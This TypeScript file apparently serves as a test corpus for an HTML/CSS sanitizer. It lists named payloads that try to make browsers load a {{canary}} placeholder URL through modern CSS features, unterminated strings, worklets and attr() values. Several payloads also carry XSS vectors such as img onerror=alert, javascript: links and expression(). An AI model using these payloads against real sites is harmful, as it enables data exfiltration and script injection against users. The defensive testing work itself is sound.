/**
 * Attacks by recent features of style sheets, in the format of `own-attacks.ts`. Elements with the class `poke` are
 * pressed.
 */
const raw = String.raw;
const chars = Array.from('abcs3');
const code = (char: string): number => char.codePointAt(0) ?? 0;

export const CSS_ATTACKS: readonly { readonly name: string; readonly payload: string }[] = [
  {
    name: 'CSS: addresses in nested rules',
    payload: `<style>p{& i{background:url({{canary}}/1)}>b{background:image-set("{{canary}}/2"1x)}color:red;@media screen{background:url({{canary}}/3);&:not(x){cursor:url({{canary}}/4),auto}}@layer a{list-style:url({{canary}}/5)}@supports(color:red){&::before{content:url({{canary}}/6)}}
      @container(width>0){mask:url({{canary}}/7)}@scope(&){:scope{border-image:url({{canary}}/8)1}}@starting-style{background:url({{canary}}/9)}@import "{{canary}}/10";@nest & u{background:url({{canary}}/11)}background:url({{canary}}/12);a:hover{background:url({{canary}}/13)}--x:{background:url({{canary}}/14)};--y:url({{canary}}/15);filter:url({{canary}}/16#f)}
      @layer{&{background:url({{canary}}/17)}}:root{&>body{&>p{&+p{&{background:url({{canary}}/18)}}}}}p{{background:url({{canary}}/19)}}p{;;;&{}background:url({{canary}}/20)</style><p>p<i>i</i><b>b</b><p>q`,
  },
  {
    name: 'CSS: names of functions that comments and variables divide',
    payload: `<style>:root{--n:url;--u:u;--r:rl("{{canary}}/1");--a:("{{canary}}/2");--i:image;--h:#}p{background:url/**/("{{canary}}/3");--x:url/**/("{{canary}}/4");mask:var(--x)}i{background:u/**/rl("{{canary}}/5");--y:u/**/r/**/l("{{canary}}/6");mask:var(--y)}
      b{background:var(--n)("{{canary}}/7");mask:var(--n)var(--a);list-style:var(--u)var(--r);content:var(--u)rl({{canary}}/8)}u{--z:-/**/webkit-image-set("{{canary}}/9" 1x);background:var(--z);mask:var(--i)/**/-set("{{canary}}/10" 1x);cursor:var(--h)url("{{canary}}/11"),auto}s{background:var(--none,u)rl("{{canary}}/12");--w://**/* "*/url({{canary}}/13)";mask:var(--w);list-style:image-set(var/**/(--a) 1x)}</style><p style="--x:\\75/**/rl('{{canary}}/14');background:var(--x)">p<i>i</i><b>b</b><u>u</u><s>s</s>`,
  },
  {
    name: 'CSS: scopes whose limits hold addresses',
    payload: `<div><style>@scope{:scope{background:url({{canary}}/1)}}@scope(.a:not([x="url({{canary}}/2)"])){p{background:url({{canary}}/3)}}@scope to(p){:scope::after{content:url({{canary}}/4)}}@scope(url({{canary}}/5)){*{background:url({{canary}}/6)}}@scope(.a)to(:scope>.b,.c){@import "{{canary}}/7";&{background:url({{canary}}/8)}@scope(p){background:url({{canary}}/9)}}@SCOPE/**/(p)/**/TO/**/(q){\\3a scope,p{background:u\\72l({{canary}}/10)}}</style><p class="a">a</div>`,
  },
  {
    name: 'CSS: registered properties of addresses',
    payload: `<style>@property --a{syntax:"<url>#";inherits:false;initial-value:url({{canary}}/1),url({{canary}}/2)}@property --b{syntax:"<image>+";inherits:true;initial-value:image-set("{{canary}}/3"1x) url({{canary}}/4)}@property --c{syntax:"*";inherits:true;initial-value:url({{canary}}/5)}@property --d{syntax:"<string> | <url>";inherits:true;initial-value:"{{canary}}/6"}@property --e{syntax:"<transform-list>|<image>";inherits:true;initial-value:src("{{canary}}/7")}
      p{background:var(--a)}i{background:var(--b)}b{background:var(--c)}u{background:src(var(--d));background:image-set(var(--d)1x)}s{background:var(--e);background:var(--s1);mask:var(--s2)}</style><p>p<i>i</i><b>b</b><u>u</u><s>s</s><script>for(const[name,syntax,initialValue]of[['--s1','<url>','url({{canary}}/8)'],['--s2','<image>','image-set("{{canary}}/9"1x)']])try{CSS.registerProperty({name,syntax,initialValue,inherits:true})}catch{}</script>`,
  },
  {
    name: 'CSS: functions of the page and conditions in values',
    payload: `<style>@function --f(--a <url>:url({{canary}}/1),--b type(*):"{{canary}}/2") returns <image>{@media(width>0){result:var(--a)}@supports(color:red){result:image-set(var(--b)1x)}--l:url({{canary}}/3);result:var(--l)}@function --g(--x){@container(width>0){result:url({{canary}}/4)}result:--f(url({{canary}}/5))}@function --join(--x,--y){result:var(--x)var(--y)}
      p{background:--f()}i{background:--g({"{{canary}}/6"})}b{background:--join(url\\28,"{{canary}}/7")}u{background:if(media(width>0):url({{canary}}/8);supports(src("x")):src("{{canary}}/9");else:url({{canary}}/10))}s{background:if(style(--n:1):if(else:image-set("{{canary}}/11"1x));else:image-set(if(else:"{{canary}}/12")1x))}q{--k:if(else:url({{canary}}/13));background:var(--k);content:inherit(--k,url({{canary}}/14));width:calc(1px*sibling-index(url({{canary}}/15)))}</style><p>p<i>i</i><b>b</b><u>u</u><s>s</s><q>q</q>`,
  },
  {
    name: 'CSS: addresses out of attributes, with types',
    payload: `<style>i{background:attr(data-u type(<url>));mask:attr(data-u type(<url>),url({{canary}}/1))}b{background:src(attr(data-s string));background:image-set(attr(data-s string,"{{canary}}/2")1x)}u{background:url(attr(data-s));content:attr(data-s string)url({{canary}}/3)}s{--x:attr(data-u type(*),url({{canary}}/4));background:var(--x)}q{background:attr(data-n %,url({{canary}}/5));background:attr(xlink|href type(<url>));background:attr(*|src type(<image>))}a{background:attr(data-h type(<url>));cursor:attr(data-h type(<url>)),auto;background:attr(data-h)}a::before{content:attr(data-h)attr(style)attr(data-vitrine-frame)}</style>
      <i data-u="url({{canary}}/i)">i</i><b data-s="{{canary}}/b">b</b><u data-s="{{canary}}/u">u</u><s data-u="url({{canary}}/s)">s</s><q data-n="x" xlink:href="url({{canary}}/q)" src="url({{canary}}/r)">q</q><a href="url({{canary}}/a)" data-h="url({{canary}}/h)" style="--v:url({{canary}}/6);background:var(--v)">a</a>`,
  },
  {
    name: 'CSS: queries of styles and of scrolling',
    payload: `<style>:root{--t:url({{canary}}/1);--u:"{{canary}}/2";container:a url({{canary}}/3)}@container style(--t:url({{canary}}/1)){p{background:url({{canary}}/4)}}@container style(--u:var(--v,"{{canary}}/5")) and style(background:url({{canary}}/6)){p{background:url({{canary}}/7)}}@container not scroll-state(stuck:top){p::after{content:url({{canary}}/8)}}@container a style(--t) or (width>calc(1px*1)){p{list-style:url({{canary}}/9)}}@container style(--n<5){p{mask:url({{canary}}/10)}}@container anchored(fallback:--x){p{mask:url({{canary}}/11)}}@when media(width>0){p{background:url({{canary}}/12)}}@else{p{background:url({{canary}}/13)}}@custom-media --c url({{canary}}/14);@media(--c){p{cursor:url({{canary}}/15),auto}}@custom-selector :--s p;:--s{background:url({{canary}}/16)}@media style(--t:url({{canary}}/17)){p{background:url({{canary}}/18)}}</style><p>p`,
  },
  {
    name: 'CSS: pictures of elements, canvases and fades',
    payload: `<style>p{background:-webkit-canvas(x),-webkit-named-image(url({{canary}}/1)),-moz-element(#x),element("{{canary}}/2"),image(rtl "{{canary}}/3",red)}i{background:cross-fade(url({{canary}}/4)20%,src("{{canary}}/5")80%,image("{{canary}}/6"));background:-webkit-cross-fade(image-set("{{canary}}/7"1x),-webkit-image-set(url({{canary}}/8)1x),50%)}b{background:image-set("{{canary}}/9"type("image/svg+xml")2dppx,src("{{canary}}/10")calc(1x),cross-fade("{{canary}}/11"))}u{background:image-set(/**/\n"{{canary}}/12"\t1x,\\22{{canary}}/13\\22 2x);background:stripes(url({{canary}}/14))}s{background:conic-gradient(url({{canary}}/15),red);-webkit-mask:-webkit-cross-fade(url({{canary}}/16),none,1)}q{background:light-dark(url({{canary}}/17),image-set("{{canary}}/18"1x));background:random-item(--x,url({{canary}}/19))}</style><p>p<i>i</i><b>b</b><u>u</u><s>s</s><q>q</q>`,
  },
  {
    name: 'CSS: texts that do not end',
    payload: raw`<style>p{background:url({{canary}}/1</style><style>p{background:url("{{canary}}/2</style><style>p{content:"x
      ;background:url({{canary}}/3)}i{--x:'</style><style>p{background:image-set("{{canary}}/4"</style><style>p{/*</style><style>*/background:url({{canary}}/5)}</style><style>p{background:url({{canary}}/6\</style><style>p{background:src("{{canary}}/7\</style><style>@import url({{canary}}/8</style><style>@import "{{canary}}/9</style><style>@media screen{p{background:url({{canary}}/10)</style><style>p{background:\</style><style>"</style><style>url({{canary}}/11);"}p{background:url({{canary}}/12)}</style>
      <p style="background:url({{canary}}/13">p<p style="background:url('{{canary}}/14">p<p style="--x:(;background:url({{canary}}/15)">p<p style="content:'\">p<p style="/*">p<p style="background:url({{canary}}/16\">p<style>p{x:url(a b;}p{background:url({{canary}}/17)}</style>`,
  },
  {
    name: 'CSS: malformed addresses, controls and what has no character',
    payload: `<style>p{background:url(x"url({{canary}}/1));background:url(a'b)url({{canary}}/2);background:url(a(b)url({{canary}}/3);background:url("a"b url({{canary}}/4));background:url( "{{canary}}/5" ,"{{canary}}/6" )}i{background:url(\u0001{{canary}}/7);background:url({{canary}}/8\u000b);background:url(\u00a0{{canary}}/9);background:u\u200brl({{canary}}/10);background:url\f({{canary}}/11)}b{background:url\r({{canary}}/12);background:\\0url({{canary}}/13);background:\\d800 url({{canary}}/14);background:\\110000url({{canary}}/15);background:url(\\0{{canary}}/16)}</style>
      <script>const s=document.createElement('style');s.append('u{background:\\u0000url({{canary}}/17);background:u\\u0000rl({{canary}}/18)}s{background:\\ud800url({{canary}}/19);background:url(\\udc00{{canary}}/20)}\\ufeff@import "{{canary}}/21";q{background:u\\\\72\\r\\nl({{canary}}/22)}');document.head.append(s)</script><p>p<i>i</i><b>b</b><u>u</u><s>s</s><q>q</q>`,
  },
  {
    name: 'CSS: fonts within rules, by characters and by functions',
    payload: `<p class="l">abcs3</p><style>${chars.map((char) => `@supports(color:red){@font-face{font-family:l;src:url({{canary}}/has-${char})format("woff2-variations")tech(variations),src("{{canary}}/src-${char}");unicode-range:U+${code(char).toString(16)};size-adjust:url({{canary}}/size-${char})}}`).join('')}@media screen{@layer x{@font-face{font-family:"l\\000029";src:local("a"),local(url({{canary}}/1)),url({{canary}}/2)format(collection),url({{canary}}/3 x),url("{{canary}}/4"crossorigin(anonymous));unicode-range:u+????,U+26}}}@scope(p){@font-face{font-family:m;src:url({{canary}}/5)}}p{@font-face{font-family:n;src:url({{canary}}/6)}font:1em l,m,n,url({{canary}}/7);font-family:src("{{canary}}/8"),l)}@font-palette-values --p{font-family:l;override-colors:0 url({{canary}}/9)}p::first-letter{font-palette:--p;font-family:"l)"}</style><script>for(const [c,n]of[['a',1],['b',2]])document.fonts.add(new FontFace('l','url({{canary}}/face-'+n+')',{unicodeRange:'U+'+c.charCodeAt().toString(16)}));document.fonts.ready.then(()=>document.querySelector('.l').append('ab'))</script>`,
  },
  {
    name: 'CSS: cursors, and pictures of states',
    payload: `<style>*{cursor:url({{canary}}/1)1 1,url("{{canary}}/2"),image-set("{{canary}}/3"1x)2 2,-webkit-image-set("{{canary}}/4"1x),-webkit-grab}*:hover{cursor:url({{canary}}/5),auto;background:url({{canary}}/6)}:active{background:url({{canary}}/7)}:visited{color:url({{canary}}/8)}:autofill,:-webkit-autofill{background:url({{canary}}/9)}::selection,::target-text,::spelling-error,::search-text{background:url({{canary}}/10)}::-webkit-scrollbar{background:url({{canary}}/11);width:9px}::placeholder{background:url({{canary}}/12)}::backdrop{background:url({{canary}}/13)}::file-selector-button{background:url({{canary}}/14)}input::-webkit-calendar-picker-indicator{background:url({{canary}}/15)}:user-invalid,:has(:focus){list-style-image:url({{canary}}/16)}a{cursor:u\\72 l({{canary}}/17),auto}</style><a class="poke" href="#x">a</a><input required placeholder="p"><input type="date"><input type="file">`,
  },
  {
    name: 'CSS: worklets',
    payload: `<style>p{background:paint(x,url({{canary}}/1),"{{canary}}/2");display:layout(y);animation:worklet(z) 1s;mask:-webkit-paint(x,url({{canary}}/3));background:image-set(paint(x)1x,"{{canary}}/4"2x)}</style><p>p</p><script>const text="registerPaint('x',class{static get inputArguments(){return['*']}paint(c,s,p,a){fetch('{{canary}}/5');import('{{canary}}/6')}});alert(1)";for(const worklet of[CSS.paintWorklet,CSS.layoutWorklet,CSS.animationWorklet,window.sharedStorage?.worklet])for(const at of['{{canary}}/7','data:text/javascript,'+encodeURIComponent(text),URL.createObjectURL(new Blob([text],{type:'text/javascript'}))])worklet?.addModule(at).catch(()=>0)</script>`,
  },
  {
    name: 'CSS: addresses with modifiers, from strings',
    payload: raw`<style>p{background:url("{{canary}}/1" crossorigin(use-credentials) integrity("sha256-x") referrer-policy(unsafe-url));background:src("{{canary}}/2" var(--m))}i{--s:"{{canary}}/3";background:src(var(--s));background:src(env(x,"{{canary}}/4"));background:SRC(/**/"{{canary}}/5"/**/);background:s\72 c("{{canary}}/6")}b{background:src(string("{{canary}}/7"));background:url(src("{{canary}}/8"));background:src(url({{canary}}/9));background:-webkit-src("{{canary}}/10");background:url-prefix("{{canary}}/11");background:domain("{{canary}}/12")}u{background:src("{{can""ary}}/13");background:src("\
{{canary}}/14");background:src('{{canary}}/15')no-repeat,src("{{canary}}/16")}</style><p>p<i>i</i><b>b</b><u>u</u>`,
  },
  {
    name: 'CSS: animations by scrolling, with names that are none',
    payload: raw`<style>@keyframes "url({{canary}}/1)"{to{background:url({{canary}}/2)}}@keyframes \75rl\28x\29{50%{list-style:url({{canary}}/3)}entry 10%{cursor:url({{canary}}/4),auto}}@-webkit-keyframes k{from{background:image-set("{{canary}}/5"1x)}to{@media screen{background:url({{canary}}/6)}}}p{animation:"url({{canary}}/1)" 1ms infinite,url\28x\29 1ms infinite,k 1ms;animation-timeline:scroll(root block),view(url({{canary}}/7)),--t;scroll-timeline:--t,url({{canary}}/8);view-timeline:--\}\*\{background\:url\(x\) x;timeline-scope:--\22,all;animation-range:entry url({{canary}}/9);timeline-trigger:--g view(url({{canary}}/10));animation-trigger:--g play-once;offset-path:url({{canary}}/11#p);offset:ray(url({{canary}}/12))}@timeline x{source:url({{canary}}/13)}</style><p id="p">p</p><script>p.animate([{backgroundImage:'url({{canary}}/14)',cursor:'url({{canary}}/15),auto'},{'--x':'url({{canary}}/16)',mask:'image-set("{{canary}}/17"1x)',offset:.3}],{duration:9e3,iterations:Infinity,id:'url({{canary}}/18)',pseudoElement:'::before'});p.animate({background:['src("{{canary}}/19")','url({{canary}}/20)'],href:['javascript:alert(1)'],onclick:['alert(2)'],easing:['url({{canary}}/21)']},9e3)</script>`,
  },
  {
    name: 'CSS: names of view transitions',
    payload: raw`<style>@view-transition{navigation:auto;types:a,url({{canary}}/1)}p{view-transition-name:"url({{canary}}/2)";view-transition-name:x\}\*\{background\:url\(\{\{canary\}\}\);view-transition-class:\22 url({{canary}}/3)}i{view-transition-name:url({{canary}}/4);view-transition-group:contain url({{canary}}/5)}::view-transition-group(url({{canary}}/6)){background:url({{canary}}/7)}::view-transition-old(*.\22),::view-transition-new(root){background:url({{canary}}/8);content:url({{canary}}/9)}::view-transition-image-pair(x\}){mask:url({{canary}}/10)}::view-transition{background:image-set("{{canary}}/11"1x)}:active-view-transition-type(a,b){background:url({{canary}}/12)}</style><p id="p">p<i>i</i></p><script>document.startViewTransition?.({update(){p.style.viewTransitionName='y);background:url({{canary}}/13';p.append('new');p.setAttribute('style','view-transition-name:match-element;background:url({{canary}}/14)')},types:['"></style><script>alert(1)<\/script>','url({{canary}}/15)']})</script>`,
  },
  {
    name: 'CSS: pseudo-elements of new controls, anchors and markers',
    payload: `<style>::picker(select),select{appearance:base-select;background:url({{canary}}/1)}::picker-icon,::checkmark{content:url({{canary}}/2)}::scroll-button(*){content:url({{canary}}/3)/"x"}::scroll-marker{content:image-set("{{canary}}/4"1x)}::scroll-marker-group,::column{background:url({{canary}}/5)}::details-content{background:url({{canary}}/6)}::highlight(h){background:url({{canary}}/7);text-decoration:url({{canary}}/8)}::part(p\\)x){background:url({{canary}}/9)}::slotted(*){background:url({{canary}}/10)}::cue{background:url({{canary}}/11)}::slider-track,::meter-value{background:url({{canary}}/12)}ul{overflow:auto;scroll-marker-group:after;position-anchor:--url;inset:anchor(url({{canary}}/13) left);position-try:--t,url({{canary}}/14)}@position-try --t{inset:url({{canary}}/15);background:url({{canary}}/16)}li::before{content:counter(c,url({{canary}}/17))target-counter("{{canary}}/18",c)leader("x")}h1{string-set:x url({{canary}}/19);bookmark-label:url({{canary}}/20);interest-delay:url({{canary}}/21)}</style><select><option>o</select><ul><li>l</ul><details open>d</details><meter value=".5"></meter><h1>h</h1><script>try{CSS.highlights.set('h',new Highlight(Object.assign(document.createRange())))}catch{}</script>`,
  },
  {
    name: 'CSS: sheets made, changed and given a base by script',
    payload: `<style id="s">p{}</style><p id="p">p</p><div id="h"></div><script>const sheet=new CSSStyleSheet({baseURL:'{{canary}}/base/',media:'screen'});sheet.replaceSync('@import "{{canary}}/1";p{background:url(relative);mask:url(//canary.invalid/2)}');document.adoptedStyleSheets=[sheet];const at=s.sheet;for(const rule of['@import "{{canary}}/3"','p{background:url({{canary}}/4)}','@font-face{font-family:z;src:url({{canary}}/5)}','@namespace url({{canary}}/6)','@media x{p{cursor:url({{canary}}/7)}}'])try{at.insertRule(rule)}catch{}
      const root=h.attachShadow({mode:'closed'});root.adoptedStyleSheets=[sheet];root.innerHTML='<style>:host{background:url({{canary}}/8)}</style><link rel="stylesheet" href="{{canary}}/9"><slot style="cursor:url({{canary}}/10),auto"></slot>';try{p.attributeStyleMap.set('background-image','url({{canary}}/11)')}catch{}p.style.setProperty('--x','url({{canary}}/12)');p.style.cssText+=';mask:var(--x);border-image:url({{canary}}/13)1';setTimeout(()=>{at.cssRules[0].style?.setProperty('background','url({{canary}}/14)','important');sheet.insertRule('@layer x{p::after{content:url(late)}}');at.media.mediaText='print, url({{canary}}/15)';s.textContent='@import "{{canary}}/16";p{background:url({{canary}}/17)}'},20)</script>`,
  },
  {
    name: 'CSS: declarations that would end their attribute or rule',
    payload: `<p style="}*{background:url({{canary}}/1)}">1<p style="color:red}</style><img src=x onerror=alert(1)>">2<p style="&quot;>&lt;img src=x onerror=alert(2)>;background:url(&quot;{{canary}}/2&quot;)">3<p style="--a:{};--b:};background:url({{canary}}/3)">4<p style="@import '{{canary}}/4';background:url({{canary}}/5)">5<p style="&{background:url({{canary}}/6)}@media screen{background:url({{canary}}/7)}">6<p style="background:url({{canary}}/8)!important;;;:url({{canary}}/9)">7<p style="-moz-binding:url({{canary}}/10);behavior:url({{canary}}/11);width:expression(alert(3));-o-link:'javascript:alert(4)';-o-link-source:current">8<svg style="background:url({{canary}}/12)"><g style="fill:url({{canary}}/13#x);filter:url({{canary}}/14)"/></svg><math style="background:url({{canary}}/15)"><mi style="background:image-set('{{canary}}/16'1x)">m</mi></math><script>for(const p of document.querySelectorAll('p')){p.setAttribute('STYLE',p.getAttribute('style')+';list-style:url({{canary}}/17)');p.setAttributeNS('urn:x','x:style','background:url({{canary}}/18)')}</script>`,
  },
];
